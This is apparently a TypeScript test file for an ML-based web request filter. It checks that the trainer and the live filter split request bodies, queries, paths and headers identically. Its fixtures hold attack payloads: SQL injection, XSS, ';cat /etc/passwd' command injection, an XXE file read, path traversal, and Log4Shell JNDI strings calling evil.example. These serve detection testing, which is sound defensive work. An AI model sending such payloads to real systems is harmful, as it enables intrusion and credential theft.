// Train/serve parity: the parts the trainer scores for a labelled row (Core.parts and
// Core.featurize, through node/http.ts partRequest) are the parts the filter scores when a
// client sends that row (toHttpRequest, as Envoy hands it to the filter: pseudo-headers, the
// replay's own User-Agent and path included). One request model in the core serves both.
import { beforeAll, describe, expect, it } from "vitest";
import { type Core, loadCore } from "../support/core";
import { toCoreRequest, toHttpRequest } from "../../node/http";

let core: Core;
beforeAll(async () => {
  core = await loadCore();
  expect(core.configure("")).toBeNull();
});

const multipart = (fields: Array<[string, string]>, boundary = "XyZ") =>
  fields.map(([n, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${n}"\r\n\r\n${v}\r\n`).join("") + `--${boundary}--\r\n`;

// Every body kind, and each kind's look-alikes: what a server parses is what the filter splits.
const ROWS: Array<{ where: string; text: string }> = [
  { where: "body:form", text: "user=alice&q=1%27%20OR%20%271%27%3D%271" },
  { where: "body:form", text: '{"looks":"like json"}' },
  { where: "body:json", text: '{"a":{"b":["<script>alert(1)</script>",2]},"c":"d e"}' },
  { where: "body:json", text: "not json at all' OR 1=1" },
  { where: "body:multipart", text: multipart([["title", "Holiday photos"], ["cmd", ";cat /etc/passwd"]]) },
  { where: "body:xml", text: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
  { where: "body:text", text: "Hello, do you ship to Canada? Thanks!" },
  { where: "body:text", text: "a=1&b=<svg onload=alert(1)>" },
  { where: "body:text", text: '{"k":"v w"}' },
  { where: "body:text", text: "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb c\r\n--XyZ--\r\n" },
  { where: "query", text: "q=running+shoes&page=2" },
  { where: "query", text: "id=1%27%20OR%20%271%27%3D%271" },
  { where: "path", text: "/files/..%2F..%2Fetc%2Fpasswd" },
  { where: "header:User-Agent", text: "${jndi:ldap://evil.example/a}" },
  { where: "header:Referer", text: "https://x.example/?q=<script>alert(1)</script>" },
  { where: "header:Cookie", text: "session=abc; pref=' UNION SELECT password FROM users--" },
  { where: "header:X-Api-Version", text: "${jndi:ldap://evil.example/a}" },
];

const key = (p: { where: string; name: string; text: string; flags: number; scored: boolean }) => JSON.stringify([p.where, p.name, p.text, p.flags, p.scored]);

describe("the trainer's parts are the filter's parts", () => {
  it.each(ROWS)("$where: $text", ({ where, text }) => {
    const trained = core.parts(where, text).map(key);
    const http = toHttpRequest(text, where);
    const served = core.requestParts(toCoreRequest(http)).map(key);
    // The replayed request carries a path and a User-Agent of its own; nothing else may differ.
    const extra = core.requestParts({ head: [[":path", http.path.split("?")[0]], ["user-agent", http.headers["user-agent"]]] }).map(key);
    const servedOwn = served.filter((k) => !(extra.includes(k) && !trained.includes(k)));
    expect(servedOwn).toEqual(trained);
  });

  it("the trainer's windows are the windows of those parts", () => {
    for (const { where, text } of ROWS) {
      const wheres = core.featurize(where, text, 16).map((w) => core.description.wheres[w.where]);
      const scoredParts = core.parts(where, text).filter((p) => p.scored).map((p) => p.where);
      expect([...new Set(wheres)].sort(), `${where}: ${text}`).toEqual([...new Set(scoredParts)].sort());
    }
  });

  it("each window's confirmed mask is what the gate's lexers say of its text (the trainer weighs windows by it)", () => {
    const heads = core.heads;
    const maskOf = (text: string) => heads.reduce((m, h, k) => (k > 0 && core.confirms(h, Buffer.from(text, "latin1")) ? m | (1 << k) : m), 0);
    let confirmedSeen = 0;
    for (const { where, text } of ROWS) {
      // Parts of one window each: their decoded text is the window's.
      const parts = core.parts(where, text).filter((p) => p.scored);
      if (parts.some((p) => Buffer.byteLength(p.text, "latin1") > 200)) continue;
      const masks = core.featurize(where, text, 16).filter((w) => !w.piece).map((w) => w.confirmed).sort();
      expect(masks, `${where}: ${text}`).toEqual(parts.map((p) => maskOf(p.text)).sort());
      confirmedSeen += masks.filter((m) => m !== 0).length;
    }
    expect(confirmedSeen).toBeGreaterThan(5);
    const [sqli] = core.featurize("query", "id=1%27%20OR%20%271%27%3D%271", 16);
    expect(sqli.confirmed & (1 << heads.indexOf("sqli"))).not.toBe(0);
    const [plain] = core.featurize("query", "q=running+shoes", 16);
    expect(plain.confirmed).toBe(0);
  });

  // The zoom (core/zoom.ts) scores pieces of prose windows again; the model must be trained on them
  // too, or a retrain's scores for a payload in prose (and for prose's own pieces) are untrained.
  const REVIEW = "Ordered the blue one for my sister and it arrived two days early. The fabric feels sturdy, the stitching is neat.";
  const PROSE_ROWS: Array<{ where: string; text: string }> = [
    { where: "body:json", text: JSON.stringify({ review: `${REVIEW} 127.0.0.1;id ${REVIEW}` }) },
    { where: "query", text: `q=${encodeURIComponent(`${REVIEW} admin'-- ${REVIEW}`)}` },
    { where: "body:text", text: `${REVIEW} <svg onload=alert(1)> ${REVIEW} either 'celsius' or 'fahrenheit' (see above).` },
    { where: "body:form", text: `note=${encodeURIComponent(`${REVIEW}\r\nSet-Cookie: a=b ${REVIEW}`)}` },
  ];

  it("the trainer's instances are the windows and pieces the scores look up, count for count", () => {
    // Over every threshold the gate holds windows to, the scores skip no window (core/inspect.ts);
    // no row here repeats a window, which the scores would look up once.
    expect(core.configure('{"threshold":95}')).toBeNull();
    try {
      for (const { where, text } of [...ROWS, ...PROSE_ROWS]) {
        const instances = core.featurize(where, text, 15);
        const looked = instances.reduce((n, w) => n + w.features.length, 0);
        expect(core.score(where, text).features, `${where}: ${text}`).toBe(looked);
      }
      for (const { where, text } of PROSE_ROWS) expect(core.featurize(where, text, 15).some((w) => w.piece), `${where}: ${text}`).toBe(true);
    } finally {
      expect(core.configure("")).toBeNull();
    }
  });

  it("a piece follows its window, is never the whole of it, and confirms only classes its window confirms (confirmsIn)", () => {
    const rce = 1 << core.heads.indexOf("rce");
    const sorted = (f: Uint32Array) => Array.from(f).sort((a, b) => a - b).join(",");
    for (const { where, text } of PROSE_ROWS) {
      const instances = core.featurize(where, text, 15);
      expect(instances[0].piece, `${where}: ${text}`).toBe(false);
      let window = instances[0];
      for (const w of instances.slice(1)) {
        if (!w.piece) { window = w; continue; }
        expect(sorted(w.features)).not.toBe(sorted(window.features));
        expect(w.confirmed & ~window.confirmed).toBe(0);
      }
    }
    const [row] = PROSE_ROWS;
    expect(core.featurize(row.where, row.text, 15).some((w) => w.piece && (w.confirmed & rce) !== 0)).toBe(true);
    expect(core.featurize("body:text", REVIEW, 15).some((w) => w.piece)).toBe(false);
  });

  // A run that opens as a payload does is cut alone (core/zoom.ts): the piece is the payload sent
  // alone, feature for feature, not the payload with a word of the review either side.
  it("a payload that opens as one is cut alone from its review: a word's quote, a tag, a command, a script's URL scheme", () => {
    const sorted = (f: Uint32Array) => Array.from(f).sort((a, b) => a - b).join(",");
    for (const payload of ["admin'--", "<svg onload=alert(1)>", ";cat /etc/passwd", "javascript:alert(document.cookie)"]) {
      const [alone] = core.featurize("body:json", JSON.stringify({ review: payload }), 15);
      const pieces = core.featurize("body:json", JSON.stringify({ review: `${REVIEW} ${payload} ${REVIEW}` }), 15).filter((w) => w.piece);
      expect(pieces.map((w) => sorted(w.features)), payload).toContain(sorted(alone.features));
    }
  });

  it("a text/plain body that reads as a form is a form for both (the mismatch this test was written for)", () => {
    expect(core.parts("body:text", "a=1&b=<svg onload=alert(1)>").map((p) => p.where)).toEqual(["body:form", "body:form"]);
  });
});
